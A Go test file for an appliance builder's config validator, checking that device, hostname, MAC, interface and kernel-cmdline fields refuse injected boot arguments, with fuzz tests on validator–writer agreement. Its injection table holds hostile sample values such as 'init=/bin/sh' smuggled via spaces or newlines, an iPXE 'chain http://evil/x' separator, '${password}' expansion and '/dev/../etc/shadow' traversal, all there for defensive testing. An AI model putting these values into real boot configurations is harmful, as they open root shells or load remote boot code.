package site

import (
	"strconv"
	"strings"
	"testing"

	"github.com/ml-appliance/appliance/builder/output"
	"github.com/ml-appliance/appliance/builder/output/pxe"
	"github.com/ml-appliance/appliance/firstboot/bootparam"
)

// injections are values that would add kernel arguments, iPXE commands or
// settings, or lines of a boot loader config, were they written as they
// are. Each is a YAML double-quoted scalar.
var injections = []struct{ name, yaml string }{
	{"spaces", `"/dev/vda appliance.rescue=1 init=/bin/sh"`},
	{"double quote", `"/dev/vda\" init=/bin/sh \""`},
	{"single quote", `"/dev/vda' x"`},
	{"newline", `"/dev/vda\ninit=/bin/sh"`},
	{"carriage return", `"/dev/vda\rinit=/bin/sh"`},
	{"tab", `"/dev/vda\tinit=/bin/sh"`},
	{"no-break space", `"/dev/vda\xa0init=/bin/sh"`},
	{"NUL", `"/dev/vda\0"`},
	{"escape", `"/dev/vda\e[2J"`},
	{"iPXE expansion", `"/dev/${password}"`},
	{"iPXE separator", `"/dev/vda ; chain http://evil/x"`},
	{"iPXE and", `"/dev/vda && shell"`},
	{"iPXE or", `"/dev/vda || shell"`},
	{"iPXE comment", `"/dev/vda #"`},
	{"semicolon", `"/dev/vda;reboot"`},
	{"hash", `"/dev/vda#x"`},
	{"comma option", `"/dev/vda,force"`},
	{"path traversal", `"/dev/../etc/shadow"`},
	{"very long", `"/dev/` + strings.Repeat("a", 300) + `"`},
}

// fineKernelValue are the injections that, with "/dev/" made "x=", are
// ordinary kernel arguments: "x=vda,force", "x=vda;reboot" (ds=nocloud
// has ';'), "x=../etc/shadow" and 300 bytes.
var fineKernelValue = map[string]bool{"comma option": true, "semicolon": true, "path traversal": true, "very long": true}

// TestValidateRefusesBootValueInjection puts every injection into every
// field that reaches a kernel command line, an iPXE script or a file name
// and wants exactly one error, at that field's line.
func TestValidateRefusesBootValueInjection(t *testing.T) {
	fields := []struct {
		field string
		line  int
		// config puts the YAML value into a config.
		config func(value string) string
	}{
		{"outputs.pxe.state.device", 13, func(v string) string { return valid + "outputs:\n  pxe:\n    state: {device: " + v + "}\n" }},
		{"outputs.iso.state.device", 13, func(v string) string { return valid + "outputs:\n  iso:\n    state: {device: " + v + "}\n" }},
		{"outputs.iso.install.device", 13, func(v string) string { return valid + "outputs:\n  iso:\n    install: {device: " + v + "}\n" }},
		{"os.cmdline[1]", 8, func(v string) string { return withOS("cmdline: [quiet, " + strings.Replace(v, "/dev/", "x=", 1) + "]") }},
		{"metadata.name", 4, func(v string) string {
			return strings.Replace(valid, "name: lab", "name: "+strings.Replace(v, "/dev/", "lab", 1), 1)
		}},
		{"cluster.nodes[0].hostname", 10, func(v string) string {
			return strings.Replace(valid, "hostname: a,", "hostname: "+strings.Replace(v, "/dev/", "a", 1)+",", 1)
		}},
		{"cluster.nodes[0].mac", 10, func(v string) string {
			return strings.Replace(valid, "hostname: a,", "hostname: a, mac: "+strings.Replace(v, "/dev/", "52:54:00:00:00:01", 1)+",", 1)
		}},
		{"outputs.pxe.serve.interface", 13, func(v string) string {
			return valid + "outputs:\n  pxe:\n    serve: {interface: " + strings.Replace(v, "/dev/", "eth0", 1) + "}\n"
		}},
	}
	for _, f := range fields {
		for _, inj := range injections {
			if f.field == "os.cmdline[1]" && fineKernelValue[inj.name] {
				continue
			}
			t.Run(f.field+"/"+inj.name, func(t *testing.T) {
				config := f.config(inj.yaml)
				_, _, err := load("site.yaml", []byte(config))
				if err == nil {
					t.Fatalf("no error for\n%s", config)
				}
				msg := err.Error()
				if prefix := "site.yaml:" + strconv.Itoa(f.line) + ": " + f.field + ": "; !strings.HasPrefix(msg, prefix) || strings.Count(msg, "\n") > 0 {
					t.Errorf("error %q, want one error starting %q", msg, prefix)
				}
				if strings.ContainsFunc(msg, func(r rune) bool { return r < ' ' || r == 0x7f }) {
					t.Errorf("error %q holds a control character", msg)
				}
			})
		}
	}
}

// TestValidateNamesTheInjection spells out the errors of the attack of
// issue 12 and its like.
func TestValidateNamesTheInjection(t *testing.T) {
	for _, tc := range []struct{ name, data, err string }{{
		"state device with arguments",
		valid + "outputs:\n  pxe:\n    state: {device: \"/dev/vda appliance.rescue=1 init=/bin/sh\"}\n",
		`site.yaml:13: outputs.pxe.state.device: device "/dev/vda appliance.rescue=1 init=/bin/sh": a blank at byte 8: ` + bootparam.DeviceRule,
	}, {
		"install device with a line break",
		valid + "outputs:\n  iso:\n    install: {device: \"/dev/sda\\noptions init=/bin/sh\"}\n",
		`site.yaml:13: outputs.iso.install.device: device "/dev/sda\noptions init=/bin/sh": byte 0x0a at byte 8: ` + bootparam.DeviceRule,
	}, {
		"cmdline entry with an iPXE expansion",
		withOS(`cmdline: ["appliance.os.base=${password}"]`),
		`site.yaml:8: os.cmdline[0]: "appliance.os.base=${password}": '$' at byte 18: ` + bootparam.ArgRule,
	}, {
		"cmdline entry with a carriage return",
		withOS(`cmdline: ["console=tty0\rinit=/bin/sh"]`),
		`site.yaml:8: os.cmdline[0]: "console=tty0\rinit=/bin/sh" holds 2 parameters: give one per list entry`,
	}, {
		"cmdline entry that is an iPXE separator",
		withOS(`cmdline: [";"]`),
		`site.yaml:8: os.cmdline[0]: ";": key ";": ` + bootparam.ArgRule,
	}, {
		"cmdline entry setting the initrd",
		withOS(`cmdline: ["initrd=/x"]`),
		`site.yaml:8: os.cmdline[0]: initrd is set by the builder`,
	}, {
		"cmdline too long together",
		withOS("cmdline: [" + strings.Repeat("x="+strings.Repeat("a", 300)+", ", 4) + "]"),
		"site.yaml:8: os.cmdline: 1211 bytes together, more than 1024: the kernel keeps 2047 bytes of command line, and the builder's own arguments need the rest",
	}, {
		"cmdline entry too long",
		withOS("cmdline: [x=" + strings.Repeat("a", 600) + "]"),
		"site.yaml:8: os.cmdline[0]: 602 bytes, longer than 512",
	}, {
		"interface name",
		valid + "outputs:\n  pxe:\n    serve: {interface: \"eth0 x\"}\n",
		`site.yaml:13: outputs.pxe.serve.interface: "eth0 x": want an interface name: 1 to 15 letters, digits, '_', '.' or '-'`,
	}} {
		t.Run(tc.name, func(t *testing.T) { checkLoad(t, tc.data, tc.err, nil) })
	}
}

// FuzzDiskDevice: a device builder validate accepts is one that every
// writer accepts and the node parses back; one it refuses, the writers
// refuse too (save a ",force" suffix, which is the force field's job).
func FuzzDiskDevice(f *testing.F) {
	for _, inj := range injections {
		v, err := strconv.Unquote(inj.yaml)
		if err == nil {
			f.Add(v)
		}
	}
	for _, s := range []string{"auto", "/dev/sda", "/dev/disk/by-id/virtio-x", "sda"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, dev string) {
		err := checkDiskDevice(dev)
		for _, force := range []bool{false, true} {
			d := &DiskTarget{Device: dev, Force: force}
			stateErr := output.CheckLiveState(d.StateArg())
			if err != nil {
				if stateErr == nil && !strings.Contains(dev, ",") {
					t.Fatalf("validate refuses %q (%v), the writers take %q", dev, err, d.StateArg())
				}
				continue
			}
			if stateErr != nil {
				t.Fatalf("validate takes %q, the writers refuse %q: %v", dev, d.StateArg(), stateErr)
			}
			for key, value := range map[string]string{bootparam.ArgState: d.StateArg(), bootparam.ArgInstall: d.Target().String()} {
				line, err := output.KernelCmdline("PARTLABEL=OS-A", "tmpfs", "", []string{key + "=" + value})
				if err != nil {
					t.Fatalf("validate takes %q, KernelCmdline refuses %s=%s: %v", dev, key, value, err)
				}
				if got := bootparam.ParseCmdline(line); got[key] != value || got[bootparam.ArgOS] != "PARTLABEL=OS-A" {
					t.Fatalf("ParseCmdline(%q) = %q", line, got)
				}
			}
			if got, err := bootparam.ParseInstallTarget(d.Target().String()); err != nil || got != d.Target() {
				t.Fatalf("target %+v parses back as %+v, %v", d.Target(), got, err)
			}
		}
	})
}

// FuzzCmdlineEntry: an os.cmdline entry builder validate accepts is one
// every command line writer accepts and the node reads back unchanged.
func FuzzCmdlineEntry(f *testing.F) {
	for _, inj := range injections {
		v, err := strconv.Unquote(strings.Replace(inj.yaml, "/dev/", "x=", 1))
		if err == nil {
			f.Add(v)
		}
	}
	for _, s := range []string{"console=ttyS0,115200", "quiet", "ds=nocloud;s=http://h/", "appliance.rescue=1", `a="b c"`} {
		f.Add(s)
	}
	digest := strings.Repeat("ab", 32)
	f.Fuzz(func(t *testing.T, arg string) {
		v := &validator{rep: &report{file: "site.yaml"}}
		checkCmdline(v, []string{arg})
		if v.rep.err() != nil {
			return
		}
		key, value, _ := strings.Cut(arg, "=")
		in := output.Inputs{Name: "lab", Cmdline: []string{arg}}
		if err := in.CheckBootValues(); err != nil {
			t.Fatalf("validate takes %q, CheckBootValues refuses it: %v", arg, err)
		}
		line, err := output.KernelCmdline("PARTLABEL=OS-A", "PARTLABEL=STATE", "a", in.Cmdline)
		if err != nil {
			t.Fatalf("validate takes %q, KernelCmdline refuses it: %v", arg, err)
		}
		if got := bootparam.ParseCmdline(line); got[key] != value || got[bootparam.ArgOS] != "PARTLABEL=OS-A" {
			t.Fatalf("ParseCmdline(%q) = %q", line, got)
		}
		if _, err := pxe.Cmdline(digest, bootparam.StateTmpfs, in.Cmdline); err != nil {
			t.Fatalf("validate takes %q, pxe.Cmdline refuses it: %v", arg, err)
		}
	})
}
